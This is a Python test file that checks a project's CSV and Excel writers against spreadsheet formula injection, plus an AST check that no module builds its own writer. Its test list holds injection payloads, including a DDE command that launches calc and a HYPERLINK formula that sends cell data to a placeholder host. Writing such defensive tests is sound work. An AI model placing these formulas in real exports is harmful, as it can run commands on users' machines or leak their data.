"""No cell of any file runs in a spreadsheet, whoever wrote what stands in it."""

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from onesystem.flow.showing.workbook import Sheet, workbook
from onesystem.vocabulary.spreadsheets import Writer, harmless
from onesystem.vocabulary.tables import csv_text
from onesystem.vocabulary.wording import safe_csv

SRC = Path(__file__).resolve().parents[2] / "src/onesystem"
RUNS = ["=1+1", "+44 1603", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1",
        "\uff1d1+1", '=HYPERLINK("https://a.example/?"&A1)', "+1", "-4-3"]  # fmt: skip
# Who may make a file of cells by itself, and why that is safe.
MAKERS = {
    "vocabulary/spreadsheets.py": "every cell is harmless",
    "flow/showing/workbook.py": "the same for Excel",
    "record/views/writing.py": "the same, by columns",
    "feeds/extract/xes.py": "a file between two steps of the reader; nobody opens it",
    "contacts/exporting.py": "in the engine, by the same letters",
    "demo": "what the demo's sources send",
    "bench": "what benchmarks read",
}


@pytest.mark.parametrize("text", RUNS)
def test_what_begins_like_a_formula_is_text(text):
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "cell", ["-4.50", "-", "-1,200", "-3e-5", -4, 4.5, None, "", "a=b", "Māia"]
)
def test_a_number_and_plain_words_stay_as_they_are(cell):
    assert harmless(cell) == cell


def test_each_way_to_make_a_file_lets_none_run():
    rows = [[text] for text in RUNS]
    written = io.StringIO()
    Writer(written).writerows(rows)
    for text in (written.getvalue(), csv_text(["="], rows), "".join(safe_csv(["="], rows))):
        for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")):
            assert row[0].startswith("'"), row
    sheet = Sheet(name="x", head=["=1"], rows=rows, widths=())
    made = load_workbook(io.BytesIO(workbook(sheet, Sheet(name="y", head=(), rows=rows, widths=(),
                                                          keys=True))))  # fmt: skip
    cells = [row[0] for each in made for row in each.iter_rows()]
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.value.startswith("'") for cell in cells)


def test_nobody_makes_one_by_themselves():
    """A writer of its own would be a file that forgets the apostrophe."""
    alone = {"csv.writer", "csv.DictWriter", "Workbook", "openpyxl.Workbook"}
    found = []
    for file in sorted(SRC.rglob("*.py")):
        place, text = file.relative_to(SRC).as_posix(), file.read_text(encoding="utf-8")
        if {place, place.split("/")[0]} & MAKERS.keys() or not any(name in text for name in alone):
            continue
        calls = (node for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Call))
        found += [f"{place}:{c.lineno}" for c in calls if ast.unparse(c.func) in alone]
    assert found == []
